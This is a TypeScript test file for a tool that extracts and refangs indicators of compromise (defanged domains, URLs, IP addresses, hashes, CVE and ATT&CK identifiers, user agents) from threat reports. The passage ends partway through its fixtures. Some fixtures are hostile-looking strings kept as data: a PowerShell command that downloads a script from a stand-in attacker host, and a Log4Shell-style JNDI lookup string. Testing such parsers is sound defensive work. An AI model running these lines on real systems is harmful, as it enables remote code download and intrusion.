/**
 * Texts as they really come: every dress that names and addresses wear, what copying, encoding and typesetting do to them, and the
 * many things that look like indicators and are none. A case is a text and all that is found in it, as `role type value`.
 */
import { catalogue, refang } from '@sigwright/catalogue';
import { describe, expect, it } from 'vitest';
import { indexWarningLists, readReport } from './intake.ts';

type Case = readonly [why: string, text: string, ...expected: string[]];

const MD5 = '9b71d224bd62f3785d96d46ad3ea3d73';
const SHA1 = '1f40fc92da241694750979ee6cf582f2d5d7d28e';
const SHA256 = '2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae';

const DEFANGED: readonly Case[] = [
  ['square brackets', 'It asks coldrain[.]top.', 'indicator domain coldrain.top'],
  ['round brackets', 'It asks coldrain(.)top.', 'indicator domain coldrain.top'],
  ['curly brackets', 'It asks coldrain{.}top.', 'indicator domain coldrain.top'],
  ['angle brackets', 'It asks coldrain<.>top.', 'indicator domain coldrain.top'],
  ['the word in square brackets', 'It asks coldrain[dot]top.', 'indicator domain coldrain.top'],
  ['the word in round brackets', 'It asks coldrain(dot)top.', 'indicator domain coldrain.top'],
  ['the word in capitals', 'It asks coldrain[DOT]top.', 'indicator domain coldrain.top'],
  ['the word between blanks', 'It asks coldrain dot top now.', 'indicator domain coldrain.top'],
  ['a blank before the dot, as ET writes', 'Observed DNS Query to (coldrain .com)', 'indicator domain coldrain.com'],
  ['a blank before each dot', 'Lookup (panel .coldrain .co .uk)', 'indicator domain panel.coldrain.co.uk'],
  ['only the opening bracket', 'It asks coldrain[.top now.', 'indicator domain coldrain.top'],
  ['only the closing bracket', 'It asks coldrain.]top now.', 'indicator domain coldrain.top'],
  ['the ending in the bracket', 'It asks coldrain[.top] now.', 'indicator domain coldrain.top'],
  ['a backslash', 'It asks coldrain\\.top.', 'indicator domain coldrain.top'],
  ['blanks in the bracket', 'It asks coldrain [ . ] top.', 'indicator domain coldrain.top'],
  ['a comma in the bracket', 'It asks coldrain[,]top.', 'indicator domain coldrain.top'],
  ['blanks around the dot', 'It asks coldrain . top', 'indicator domain coldrain.top'],
  ['every dot another dress', 'a[.]b(.)c{.}coldrain[dot]top', 'indicator domain a.b.c.coldrain.top'],
  ['only the last dot', 'panel.coldrain[.]top', 'indicator domain panel.coldrain.top'],
  ['only the first dot', 'panel[.]coldrain.top', 'indicator domain panel.coldrain.top'],
  ['two endings', 'coldrain[.]com[.]br', 'indicator domain coldrain.com.br'],
  ['East Asian brackets', '域名：coldrain【.】top', 'indicator domain coldrain.top'],
  ['entities left in the text', 'coldrain&#46;top', 'indicator domain coldrain.top'],
  ['in quotation marks', 'coldrain"."top', 'indicator domain coldrain.top'],
  ['hxxp', 'hxxp://coldrain[.]top/a', 'indicator url http://coldrain.top/a'],
  ['hXXps', 'hXXps://coldrain[.]top/a', 'indicator url https://coldrain.top/a'],
  ['HXXPS', 'HXXPS://COLDRAIN[.]TOP/a', 'indicator url https://coldrain.top/a'],
  ['stars', 'h**p://coldrain.top/a', 'indicator url http://coldrain.top/a'],
  ['stars and s', 'h**ps://coldrain.top/a', 'indicator url https://coldrain.top/a'],
  ['htxp', 'htxp://coldrain.top/a', 'indicator url http://coldrain.top/a'],
  ['hxtp', 'hxtps://coldrain.top/a', 'indicator url https://coldrain.top/a'],
  ['s in brackets', 'hxxp[s]://coldrain[.]top/a', 'indicator url https://coldrain.top/a'],
  ['meow', 'meow://coldrain[.]top/a', 'indicator url http://coldrain.top/a'],
  ['fxp', 'fxp://coldrain[.]top/a.bin', 'indicator url ftp://coldrain.top/a.bin'],
  ['colon in brackets', 'hxxps[:]//coldrain[.]top/a', 'indicator url https://coldrain.top/a'],
  ['colon and slashes in brackets', 'hxxps[://]coldrain[.]top/a', 'indicator url https://coldrain.top/a'],
  ['http with only the colon in brackets', 'http[:]//coldrain.top/a', 'indicator url http://coldrain.top/a'],
  ['slashes in brackets', 'hxxp:[//]coldrain[.]top[/]a', 'indicator url http://coldrain.top/a'],
  ['JSON', '{"url":"http:\\/\\/coldrain.top\\/a\\/b.php","x":1}', 'indicator url http://coldrain.top/a/b.php'],
  ['backslashes for slashes', 'http:\\\\coldrain[.]top\\a.exe', 'indicator url http://coldrain.top', 'indicator file a.exe'],
  ['a blank behind the slashes', 'hxxp:// coldrain[.]top/a', 'indicator url http://coldrain.top/a'],
  ['defanged by its scheme alone', 'It loads hxxp://coldrain.top/a.exe then.', 'indicator url http://coldrain.top/a.exe'],
  ['port in the address', 'hxxp://coldrain[.]top:8443/a', 'indicator url http://coldrain.top:8443/a'],
  ['port in brackets', 'hxxp://coldrain[.]top[:]8443/a', 'indicator url http://coldrain.top:8443/a'],
  ['credentials', 'ftp://joe:pass@coldrain[.]top/a', 'indicator url ftp://joe:pass@coldrain.top/a'],
  ['dots of the file name, too', 'hxxp://coldrain[.]top/gate[.]php', 'indicator url http://coldrain.top/gate.php'],
  ['query and fragment', 'hxxp://coldrain[.]top/a?b=1&c=%2Fd#e', 'indicator url http://coldrain.top/a?b=1&c=%2Fd#e'],
  ['another address in the query', 'hxxp://coldrain[.]top/r?u=https://tin-otter.net/x', 'indicator url http://coldrain.top/r?u=https://tin-otter.net/x'],
  ['mail with [@]', 'joe[@]coldrain[.]top', 'indicator email joe@coldrain.top'],
  ['mail with [at]', 'joe[at]coldrain[.]top', 'indicator email joe@coldrain.top'],
  ['mail with (at) and (dot)', 'joe (at) coldrain (dot) top', 'indicator email joe@coldrain.top'],
  ['mail with <at>', 'joe<at>coldrain<dot>top', 'indicator email joe@coldrain.top'],
  ['mail spoken in capitals', 'joe AT coldrain DOT top', 'indicator email joe@coldrain.top'],
  ['mail, dots alone', 'joe.black@coldrain[.]top', 'indicator email joe.black@coldrain.top'],
  ['mail in angle brackets', 'From: "Joe" <joe@coldrain[.]top>', 'indicator email joe@coldrain.top'],
];

const NUMBERS: readonly Case[] = [
  ['dots in brackets', '45[.]137[.]21[.]9', 'indicator ipv4 45.137.21.9'],
  ['one dot in brackets', '45.137.21[.]9', 'indicator ipv4 45.137.21.9'],
  ['round brackets', '45(.)137(.)21(.)9', 'indicator ipv4 45.137.21.9'],
  ['the word', '45[dot]137[dot]21[dot]9', 'indicator ipv4 45.137.21.9'],
  ['half-open brackets', '45.137.21[.9', 'indicator ipv4 45.137.21.9'],
  ['with a port', '45[.]137[.]21[.]9:8080', 'indicator ipv4 45.137.21.9 port 8080'],
  ['with a port in brackets', '45[.]137[.]21[.]9[:]8080', 'indicator ipv4 45.137.21.9 port 8080'],
  ['a port with its colon in brackets', '45[.]137[.]21[.]9[:8080]', 'indicator ipv4 45.137.21.9 port 8080'],
  ['a network', '45.137.21[.]0/24', 'indicator ipv4 45.137.21.0/24'],
  ['an address with the length of its network', '45.137.21[.]9/24', 'indicator ipv4 45.137.21.9'],
  ['from and to', '45.137.21[.]9 - 45.137.21[.]12', 'indicator ipv4 45.137.21.9', 'indicator ipv4 45.137.21.12'],
  ['from and to without blanks', '45.137.21.9-45.137.21.12', 'indicator ipv4 45.137.21.9', 'indicator ipv4 45.137.21.12'],
  ['in round brackets behind a name', 'coldrain[.]top (45.137.21[.]9)', 'indicator domain coldrain.top', 'indicator ipv4 45.137.21.9'],
  ['end of a sentence', 'Its server is 45.137.21.9.', 'indicator ipv4 45.137.21.9'],
  ['glued by commas', '45.137.21.9,45.137.21.10', 'indicator ipv4 45.137.21.9', 'indicator ipv4 45.137.21.10'],
  ['private', 'From 10.20.30.40 to 192.168.1.7', 'benign ipv4 10.20.30.40', 'benign ipv4 192.168.1.7'],
  ['for documents', '203.0.113[.]9', 'benign ipv4 203.0.113.9'],
  ['loopback', 'It listens on 127.0.0.1:9050', 'benign ipv4 127.0.0.1 port 9050'],
  ['a resolver', 'It asks 1.1.1.1 for TXT', 'benign ipv4 1.1.1.1'],
  ['a resolver with the length of its network', 'AS12345 1.1.1.1/32', 'benign ipv4 1.1.1.1'],
  ['a version by its word', 'Fixed in version 7.4.12.3 of the agent'],
  ['a version with v', 'FooVPN v10.20.30.40 is affected'],
  ['versions of browsers', 'Chrome/120.0.0.0 and Edg/119.0.2151.44 and Firefox/115.0.1.2'],
  ['a version behind a product', 'Exchange Server 2019 CU13 15.2.1258.12 and later'],
  ['five numbers', 'Build 1.2.3.4.5'],
  ['section numbers', 'See section 4.2.1.3 of the document'],
  ['an object identifier', '1.3.6.1.4.1.311.2.1.12'],
  ['numbers too large', '999.137.21.9 and 45.137.256.1'],
  ['leading zeros', '045.137.021.009'],
  ['file version in a table', '| FileVersion | 6.1.7601.17514 |'],
  ['as an address in a path', 'hxxp://45.137.21[.]9/bins/x86', 'indicator url http://45.137.21.9/bins/x86'],
  ['as an address with a port', 'hxxp://45.137.21[.]9:4444', 'indicator url http://45.137.21.9:4444'],
  ['other schemes', 'tcp://45.137.21[.]9:4444', 'indicator url tcp://45.137.21.9:4444'],
  ['host and port without scheme', 'coldrain[.]top:4443', 'indicator domain coldrain.top port 4443'],
  ['spoken', '45 dot 137 dot 21 dot 9', 'indicator ipv4 45.137.21.9'],
  ['a port and its protocol', '45.137.21[.]9:443/tcp and 45.137.21[.]10/udp', 'indicator ipv4 45.137.21.9 port 443', 'indicator ipv4 45.137.21.10'],
  ['behind a user', 'ssh root@45.137.21.9', 'indicator ipv4 45.137.21.9'],
  ['a share', '\\\\45.137.21.9@80\\dav\\a.dll', 'indicator ipv4 45.137.21.9', 'indicator file a.dll'],
  ['two versions', 'versions 4.3.2.1 and 4.3.2.5 are affected'],
  ['money, dates', '1.000.000.000 on 08.03.2024, 2024.03.08.12'],
  ['IPv6', 'It speaks to 2a0d:5600:24:a1::7 on 443', 'indicator ipv6 2a0d:5600:24:a1::7'],
  ['IPv6 with colons in brackets', '2a0d[:]5600[:]24[:]a1[::]7', 'indicator ipv6 2a0d:5600:24:a1::7'],
  ['IPv6 with one colon in brackets', '2a0d:5600:24:a1:[:]7', 'indicator ipv6 2a0d:5600:24:a1::7'],
  ['IPv6 in full', '2a0d:5600:0024:00a1:0000:0000:0000:0007', 'indicator ipv6 2a0d:5600:24:a1::7'],
  ['IPv6 in capitals', '2A0D:5600:24:A1::7', 'indicator ipv6 2a0d:5600:24:a1::7'],
  ['IPv6 with a port', '[2a0d:5600:24:a1::7]:8443', 'indicator ipv6 2a0d:5600:24:a1::7 port 8443'],
  ['IPv6 network', '2a0d:5600:24::/48 and 2a0d:5600:24:a1::7/64', 'indicator ipv6 2a0d:5600:24::/48', 'indicator ipv6 2a0d:5600:24:a1::7'],
  ['IPv4 in the clothes of IPv6', '::ffff:45.137.21.9', 'indicator ipv4 45.137.21.9'],
  ['IPv6 in an address', 'hxxp://[2a0d:5600:24:a1::7]:8443/a', 'indicator url http://[2a0d:5600:24:a1::7]:8443/a'],
  ['IPv6, link-local and private', 'fe80::1 and fd00::7', 'benign ipv6 fe80::1', 'benign ipv6 fd00::7'],
  ['hardware addresses and times', '00:1b:44:11:3a:b7 at 12:30:45 on 2024:03:08'],
  ['code', 'std::vector<int> a::b and Foo::Bar::baz'],
];

const NAMES: readonly Case[] = [
  ['end of a sentence', 'Then it asked coldrain.top. Then it slept.', 'indicator domain coldrain.top'],
  ['in single quotes', "the host 'coldrain.top' is", 'indicator domain coldrain.top'],
  ['in typographic quotes', 'the host “coldrain.top” is', 'indicator domain coldrain.top'],
  ['in code marks', 'the host `coldrain.top` is', 'indicator domain coldrain.top'],
  ['bold', 'the host **coldrain.top** is', 'indicator domain coldrain.top'],
  ['a wildcard', 'block *.coldrain[.]top', 'indicator domain coldrain.top'],
  ['all below a name, twice', '*.coldrain.top .tin-otter.net', 'indicator domain coldrain.top', 'indicator domain tin-otter.net'],
  ['a defanged full stop', 'coldrain[.]top[.] And tin-otter[.]net', 'indicator domain coldrain.top', 'indicator domain tin-otter.net'],
  ['all below a name', 'everything under [.]coldrain[.]top', 'indicator domain coldrain.top'],
  ['a dot before', 'everything under .coldrain.top', 'indicator domain coldrain.top'],
  ['a trailing dot of the root', 'coldrain.top. 300 IN A 45.137.21.9', 'indicator domain coldrain.top', 'indicator ipv4 45.137.21.9'],
  [
    'a long list on a line',
    'coldrain[.]top,tin-otter[.]net;palefinch[.]xyz',
    'indicator domain coldrain.top',
    'indicator domain tin-otter.net',
    'indicator domain palefinch.xyz',
  ],
  ['slashes between names', 'coldrain[.]top / tin-otter[.]net', 'indicator domain coldrain.top', 'indicator domain tin-otter.net'],
  ['an arrow between names', 'coldrain[.]top->tin-otter[.]net', 'indicator domain coldrain.top', 'indicator domain tin-otter.net'],
  ['zero-width characters', 'cold\u200brain\u2060[.]\u200btop', 'indicator domain coldrain.top'],
  ['a byte order mark', '\ufeffcoldrain[.]top', 'indicator domain coldrain.top'],
  ['soft hyphens', 'cold\u00adrain[.]top', 'indicator domain coldrain.top'],
  ['non-breaking hyphen', 'cold\u2011rain[.]top', 'indicator domain cold-rain.top'],
  ['turned around by a mark', '\u202ecoldrain[.]top', 'indicator domain coldrain.top'],
  ['divided at its hyphen by a line break', 'It asks cold-\nrain[.]top for more.', 'indicator domain cold-rain.top'],
  ['divided at its hyphen, live', 'The name was cold-\r\nrain.top in March.', 'indicator domain cold-rain.top'],
  ['divided behind its dot', 'It asks panel[.]cold[.]\nrain[.]top for more.', 'indicator domain panel.cold.rain.top'],
  ['a divided word before a name', 'This is a well-\nknown host: tin-otter[.]net', 'indicator domain tin-otter.net'],
  ['another script', 'холодный-дождь[.]рф', 'indicator domain холодный-дождь.рф'],
  ['a look-alike, kept exact', 'p\u0430lefinch[.]com', 'indicator domain p\u0430lefinch.com'],
  ['an accent', 'pälefinch[.]com', 'indicator domain pälefinch.com'],
  ['Chinese', '冷雨[.]com', 'indicator domain 冷雨.com'],
  ['punycode', 'xn--plefinch-2fg[.]com', 'indicator domain xn--plefinch-2fg.com'],
  ['punycode ending', 'xn--80ak6aa92e[.]xn--p1ai', 'indicator domain xn--80ak6aa92e.xn--p1ai'],
  [
    'hidden services',
    'duskfdz4t7rxgm2mnnhfvmvkfhyb3xgkk6cnwjxnrvqz6pqk7zzq2yid[.]onion',
    'indicator domain duskfdz4t7rxgm2mnnhfvmvkfhyb3xgkk6cnwjxnrvqz6pqk7zzq2yid.onion',
  ],
  ['an underscore', '_dmarc.coldrain[.]top', 'indicator domain _dmarc.coldrain.top'],
  ['long random labels', 'a8f3k2j4h5g6d7s8.coldrain[.]top', 'indicator domain a8f3k2j4h5g6d7s8.coldrain.top'],
  ['a digit first', '4coldrain[.]top and 123[.]coldrain[.]top', 'indicator domain 4coldrain.top', 'indicator domain 123.coldrain.top'],
  ['capitals', 'ColdRain[.]Top', 'indicator domain coldrain.top'],
  ['a name of a shared host', 'tin-otter.duckdns[.]org', 'indicator domain tin-otter.duckdns.org'],
  ['behind a label', 'C2:coldrain.top', 'indicator domain coldrain.top'],
  ['behind an equals sign', 'host=coldrain.top&x=1', 'indicator domain coldrain.top'],
  ['a share', '\\\\coldrain[.]top@SSL\\DavWWWRoot\\a.dll', 'indicator domain coldrain.top', 'indicator file a.dll'],
  ['of mail', 'Mails came from @coldrain[.]top.', 'indicator domain coldrain.top'],
  ['a possessive', "coldrain[.]top's server", 'indicator domain coldrain.top'],
  ['an address in brackets glued to it', 'coldrain.top(45.137.21.9)', 'indicator domain coldrain.top', 'indicator ipv4 45.137.21.9'],
  ['a slash behind', 'coldrain[.]top/ and tin-otter[.]net/', 'indicator domain coldrain.top', 'indicator domain tin-otter.net'],
  ['of digits, as some are', 'It was 163.com and 8844[.]top', 'benign domain 163.com', 'indicator domain 8844.top'],
  ['a company in prose', 'Mails in the name of Booking.com and Expedia were sent.', 'reference domain booking.com'],
  ['calls', 'logger.info("x"); df.info(); session.name; user.id; e.target'],
  ['platforms with a slash', 'ASP.NET/IIS, node.js/express.js and System.Net'],
  ['of an ending that does not exist: said, not passed over', 'coldrain[.]notanending', 'benign domain coldrain.notanending'],
  ['a file of a project', 'README.md, setup.py, main.rs, lib.so, run.sh, config.pl and build.ps'],
  ['an archive', 'The mail brings report.zip and holiday.mov.', 'indicator file report.zip'],
  ['a double ending', 'It drops invoice.pdf.exe there.', 'indicator file invoice.pdf.exe'],
  ['a program and its settings', 'It drops Updater.exe.config and helper.dll', 'indicator file helper.dll'],
  ['platforms of programmers', 'Written in asp.net, node.js, vue.js, next.js and socket.io; ADO.NET, ASP.NET and VB.NET, too.'],
  ['class names', 'It uses System.Net.Http, System.IO.File, java.net.URL and android.app.Activity'],
  ['names of packages', 'The package com.example.app asks com.android.vending and org.telegram.messenger'],
  ['sources', 'parser.rs, `lexer.rs` and bundle.js.map'],
  ['keywords', 'http.host, tls.store, file.data and vlan.id of rules'],
  ['properties and calls', 'document.location.href = window.name; console.log(x); this.name; array.map(f); process.env'],
  ['names of detections', 'Trojan.Win32.Agent.ru, MSIL/Kryptik.AE, Backdoor.Linux.Mirai.b and HEUR:Trojan.Script.Generic'],
  ['abbreviations', 'e.g. this, i.e. that, a.k.a. other, U.S. and Inc. as of 10 a.m. in St. Petersburg, etc.'],
  ['a sentence without its blank', 'It ended.Then it began.In March it stopped.So it goes.'],
  ['a sentence glued to a name', 'It asked coldrain.com.Then it slept.', 'indicator domain coldrain.com'],
  ['numbers with endings', '3.in, 2.5.to and 10.am'],
  ['talk about endings', 'Domains of .top and .xyz, mostly .com or .net, are cheap. The .NET loader'],
];

const LINKS: readonly Case[] = [
  ['Markdown', 'See [the run](hxxps://coldrain[.]top/a).', 'indicator url https://coldrain.top/a'],
  ['Markdown in angle brackets', '<hxxp://coldrain[.]top/a>', 'indicator url http://coldrain.top/a'],
  ['a full stop behind', 'It loads hxxp://coldrain[.]top/a.', 'indicator url http://coldrain.top/a'],
  ['comma and quote behind', '"hxxp://coldrain[.]top/a", and', 'indicator url http://coldrain.top/a'],
  ['brackets around', '(hxxp://coldrain[.]top/a)', 'indicator url http://coldrain.top/a'],
  ['square brackets around', '[hxxp://coldrain[.]top/a]', 'indicator url http://coldrain.top/a'],
  ['brackets within', 'hxxp://coldrain[.]top/a_(b)_c', 'indicator url http://coldrain.top/a_(b)_c'],
  ['a bold one', '**hxxp://coldrain[.]top/a**', 'indicator url http://coldrain.top/a'],
  ['in code marks', '`hxxp://coldrain[.]top/a`', 'indicator url http://coldrain.top/a'],
  ['in an HTML attribute', '<iframe src="http://coldrain.top/a"></iframe>', 'indicator url http://coldrain.top/a'],
  ['in a command', "powershell -c iwr 'hxxp://coldrain[.]top/a.ps1' -o b.ps1", 'indicator url http://coldrain.top/a.ps1', 'indicator file b.ps1'],
  ['two in a row', 'hxxp://coldrain[.]top/a hxxp://tin-otter[.]net/b', 'indicator url http://coldrain.top/a', 'indicator url http://tin-otter.net/b'],
  ['two glued', 'hxxp://coldrain[.]top/a,hxxp://tin-otter[.]net/b', 'indicator url http://coldrain.top/a', 'indicator url http://tin-otter.net/b'],
  ['without scheme', 'coldrain[.]top/a/b.php?c=1', 'indicator url //coldrain.top/a/b.php?c=1'],
  ['in a table', '| hxxp://coldrain[.]top/a | dropper |', 'indicator url http://coldrain.top/a'],
  [
    'a code host with its path',
    'hxxps://raw.githubusercontent[.]com/tinotter/x/main/a.txt',
    'indicator url https://raw.githubusercontent.com/tinotter/x/main/a.txt',
  ],
  ['an attachment of a chat', 'hxxps://cdn.discordapp[.]com/attachments/1/2/a.exe', 'indicator url https://cdn.discordapp.com/attachments/1/2/a.exe'],
  ['a document that many share', 'hxxps://docs.google[.]com/document/d/1AbC/edit', 'indicator url https://docs.google.com/document/d/1AbC/edit'],
  ['a channel', 'hxxps://t[.]me/tinotter', 'indicator url https://t.me/tinotter'],
  ['a channel without scheme', 't[.]me/tinotter', 'indicator url //t.me/tinotter'],
  ['a paste', 'hxxps://pastebin[.]com/raw/AbCd12', 'indicator url https://pastebin.com/raw/AbCd12'],
  ['a drive', 'hxxps://drive.google[.]com/uc?export=download&id=1AbC', 'indicator url https://drive.google.com/uc?export=download&id=1AbC'],
  ['a shared platform alone', 'It abuses discord[.]com and t[.]me.', 'benign domain discord.com', 'benign domain t.me'],
  ['a search engine alone', 'It checks google[.]com and bing.com for a line.', 'benign domain google.com', 'benign domain bing.com'],
  ['the same, live', 'It checks google.com for a line.', 'benign domain google.com'],
  ['a live repository in prose', 'The tool is at https://github.com/tinotter/x for all to see.', 'reference url https://github.com/tinotter/x'],
  ['a vendor', 'More at https://www.welivesecurity.com/2024/03/08/quiet/', 'reference url https://www.welivesecurity.com/2024/03/08/quiet/'],
  ['a post', 'Found by https://x.com/palefinch/status/1', 'reference url https://x.com/palefinch/status/1'],
  [
    'a run of a sandbox',
    'https://app.any.run/tasks/1a2b3c4d-0000-4000-8000-000000000000/',
    'reference url https://app.any.run/tasks/1a2b3c4d-0000-4000-8000-000000000000/',
  ],
  [
    'the sample behind a link',
    `https://www.virustotal.com/gui/file/${SHA256}/detection`,
    `reference url https://www.virustotal.com/gui/file/${SHA256}/detection`,
    `indicator sha256 ${SHA256}`,
  ],
  [
    'the sample behind another link',
    `https://bazaar.abuse.ch/sample/${SHA256}/`,
    `reference url https://bazaar.abuse.ch/sample/${SHA256}/`,
    `indicator sha256 ${SHA256}`,
  ],
  ['a commit', `https://github.com/tinotter/x/commit/${SHA1}`, `reference url https://github.com/tinotter/x/commit/${SHA1}`],
  ['a digest in the path of the enemy', `hxxp://coldrain[.]top/${MD5}/gate.php`, `indicator url http://coldrain.top/${MD5}/gate.php`],
];

const MORE_LINKS: readonly Case[] = [
  [
    'the host behind a link',
    'https://www.virustotal.com/gui/domain/tin-otter.net/relations',
    'reference url https://www.virustotal.com/gui/domain/tin-otter.net/relations',
    'indicator domain tin-otter.net',
  ],
  [
    'the address behind a link',
    'https://www.virustotal.com/gui/ip-address/45.137.21.9',
    'reference url https://www.virustotal.com/gui/ip-address/45.137.21.9',
    'indicator ipv4 45.137.21.9',
  ],
  [
    'a live download in a list',
    '- https://github.com/tinotter/x/releases/download/v1/a.exe',
    'indicator url https://github.com/tinotter/x/releases/download/v1/a.exe',
  ],
  [
    'a live download in a sentence',
    'https://docs.google.com/document/d/1AbC is used to host the payload',
    'indicator url https://docs.google.com/document/d/1AbC',
  ],
  [
    'a live upload in a sentence',
    'The stealer posts to https://api.telegram.org/bot1:AA/sendMessage',
    'indicator url https://api.telegram.org/bot1:AA/sendMessage',
  ],
  [
    'a live link of an author who defangs, to the code',
    `C2: one-quiet[.]top, two-quiet[.]top, three-quiet[.]top.\n\nThe payload is explained at https://github.com/small-lab/notes for all.`,
    'indicator domain one-quiet.top',
    'indicator domain two-quiet.top',
    'indicator domain three-quiet.top',
    'reference url https://github.com/small-lab/notes',
  ],
  ['a placeholder in braces', 'hxxp://coldrain[.]top/{GUID}/x', 'indicator url http://coldrain.top/{GUID}/x'],
  ['entities of a page', 'hxxp://coldrain[.]top/a?b=1&amp;c=2', 'indicator url http://coldrain.top/a?b=1&c=2'],
  ['an escaped line break', 'hxxp://coldrain.top/a\\nhxxp://tin-otter.net/b', 'indicator url http://coldrain.top/a', 'indicator url http://tin-otter.net/b'],
  ['a name of a directory', `\${jndi:ldap://coldrain[.]top:1389/a}`, 'indicator url ldap://coldrain.top:1389/a'],
];

const CLICKED: readonly Case[] = [
  ['words and target of a link', '[tin-otter.net](https://tin-otter.net/a)', 'reference domain tin-otter.net', 'reference url https://tin-otter.net/a'],
  ['a definition of a link', '[ci]: https://tin-otter.net/a', 'reference url https://tin-otter.net/a'],
  ['a numbered one', '[1]: https://tin-otter.net/a "words"', 'reference url https://tin-otter.net/a'],
  ['an element of a page', 'See <a href="https://tin-otter.net/a">this</a>', 'reference url https://tin-otter.net/a'],
  ['a picture', '<img width="80" src="https://tin-otter.net/a.png">', 'reference url https://tin-otter.net/a.png'],
  ['what a page loads', '<script src="https://tin-otter.net/a"></script>', 'indicator url https://tin-otter.net/a'],
  ['a defanged one', '[the panel](hxxps://tin-otter[.]net/a)', 'indicator url https://tin-otter.net/a'],
];

const OTHERS: readonly Case[] = [
  [
    'digests in capitals',
    `${MD5.toUpperCase()} ${SHA1.toUpperCase()} ${SHA256.toUpperCase()}`,
    `indicator md5 ${MD5}`,
    `indicator sha1 ${SHA1}`,
    `indicator sha256 ${SHA256}`,
  ],
  ['with their names', `MD5:${MD5} SHA1=${SHA1} sha256(${SHA256})`, `indicator md5 ${MD5}`, `indicator sha1 ${SHA1}`, `indicator sha256 ${SHA256}`],
  ['in a table', `|${MD5}|a.exe|\n|${SHA1}|b.dll|`, `indicator md5 ${MD5}`, 'indicator file a.exe', `indicator sha1 ${SHA1}`, 'indicator file b.dll'],
  ['in a row of commas', `"${SHA256}","a.exe"`, `indicator sha256 ${SHA256}`, 'indicator file a.exe'],
  ['divided over two lines', `SHA-256\n${SHA256.slice(0, 40)}\n${SHA256.slice(40)}\n`, `indicator sha256 ${SHA256}`],
  ['divided in the middle', `SHA256: ${SHA256.slice(0, 32)}\n${SHA256.slice(32)}\n`, `indicator sha256 ${SHA256}`],
  ['divided over three lines', `${SHA256.slice(0, 24)}\n  ${SHA256.slice(24, 48)}\n  ${SHA256.slice(48)}\n`, `indicator sha256 ${SHA256}`],
  ['two of 32 digits, one a line', `${MD5}\n${SHA256.slice(0, 32)}\n`, `indicator md5 ${MD5}`, `indicator md5 ${SHA256.slice(0, 32)}`],
  ['the name of a file', `C:\\Users\\joe\\${MD5}.exe`, `indicator md5 ${MD5}`],
  ['a digest of nothing', 'd41d8cd98f00b204e9800998ecf8427e', 'benign md5 d41d8cd98f00b204e9800998ecf8427e'],
  ['too long or too short', `${MD5}00 ${SHA256}ab ${MD5.slice(1)}`],
  ['a GUID', '{6b29fc40-ca47-1067-b31d-00dd010662da}'],
  ['JA3 by its name', `JA3 fingerprint: ${MD5}`, `indicator ja3 ${MD5}`],
  ['JA3S by its name', `ja3s=${MD5}`, `indicator ja3 ${MD5}`],
  ['JA3 in a table', `| JA3 | ${MD5} |\n| MD5 | ${SHA256.slice(0, 32)} |`, `indicator ja3 ${MD5}`, `indicator md5 ${SHA256.slice(0, 32)}`],
  ['several JA3 behind one name', `JA3: ${MD5}, ${SHA256.slice(0, 32)}`, `indicator ja3 ${MD5}`, `indicator ja3 ${SHA256.slice(0, 32)}`],
  ['JA3 below a heading', `## JA3\n\n- ${MD5}\n\n## MD5\n\n- ${SHA256.slice(0, 32)}\n`, `indicator ja3 ${MD5}`, `indicator md5 ${SHA256.slice(0, 32)}`],
  ['a hash of imports', `imphash: ${MD5}`, `reference md5 ${MD5}`],
  ['a thumbprint', `Thumbprint: ${SHA1}`, `indicator sha1 ${SHA1}`],
  ['JA4', 't13d1516h2_8daaf6152771_b186095e22b6', 'indicator ja4 t13d1516h2_8daaf6152771_b186095e22b6'],
  ['JA4 over QUIC', 'q13d0310h3_55b375c5d22e_cd85d2d88918', 'indicator ja4 q13d0310h3_55b375c5d22e_cd85d2d88918'],
  ['CVE', 'CVE-2024-21412', 'reference cve CVE-2024-21412'],
  [
    'CVE with other dashes',
    'CVE\u20112024\u201121412, CVE\u20132023\u201338831 and CVE\u22122021\u221244228',
    'reference cve CVE-2024-21412',
    'reference cve CVE-2023-38831',
    'reference cve CVE-2021-44228',
  ],
  ['CVE in small letters', 'cve-2024-21412', 'reference cve CVE-2024-21412'],
  ['CVE with blanks', 'CVE 2024-21412 and CVE: 2023-38831', 'reference cve CVE-2024-21412', 'reference cve CVE-2023-38831'],
  ['CVE as a tag', '#CVE_2024_21412 and #CVE202338831', 'reference cve CVE-2024-21412', 'reference cve CVE-2023-38831'],
  ['techniques', 'T1059.001, T1071 (TA0011)', 'reference attack T1059.001', 'reference attack T1071', 'reference attack TA0011'],
  [
    'techniques in addresses',
    'https://attack.mitre.org/techniques/T1059/001/',
    'reference url https://attack.mitre.org/techniques/T1059/001/',
    'reference attack T1059.001',
  ],
  ['techniques of plants and tactics beyond', 'T0866, T0801 and TA0108', 'reference attack T0866', 'reference attack T0801', 'reference attack TA0108'],
  [
    'a vulnerability in a link',
    'https://nvd.nist.gov/vuln/detail/CVE-2024-21412',
    'reference url https://nvd.nist.gov/vuln/detail/CVE-2024-21412',
    'reference cve CVE-2024-21412',
  ],
  ['no techniques', 'AT1059, T1059x, T10591 and NT1071'],
  [
    'a user agent and other values',
    'User-Agent: Mozilla/5.0 (Quiet) T1059.001 CVE-2024-21412',
    'indicator user-agent Mozilla/5.0 (Quiet)',
    'reference attack T1059.001',
    'reference cve CVE-2024-21412',
  ],
  ['a user agent in code marks', 'with the user agent `QuietClient 1.0` it', 'indicator user-agent QuietClient 1.0'],
  ['a user agent in typographic quotes', 'with the user agent “QuietClient 1.0” it', 'indicator user-agent QuietClient 1.0'],
  [
    'a browser, unnamed',
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36',
    'indicator user-agent Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36',
  ],
  ['a user agent and a host', 'User-Agent: QuietClient/1.0 Host: coldrain.top', 'indicator user-agent QuietClient/1.0', 'indicator domain coldrain.top'],
  [
    'headers',
    'GET /a HTTP/1.1\r\nHost: coldrain.top\r\nUser-Agent: Quiet Client and more\r\nAccept: */*',
    'indicator uri-path /a',
    'indicator domain coldrain.top',
    'indicator user-agent Quiet Client and more',
  ],
  [
    'in a sentence',
    'It sends the user agent QuietClient/1.0 and asks coldrain[.]top.',
    'indicator user-agent QuietClient/1.0',
    'indicator domain coldrain.top',
  ],
  ['in a table with tabs', 'User-Agent: QuietClient/1.0\tcoldrain.top', 'indicator user-agent QuietClient/1.0', 'indicator domain coldrain.top'],
  [
    'registry',
    'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Quiet',
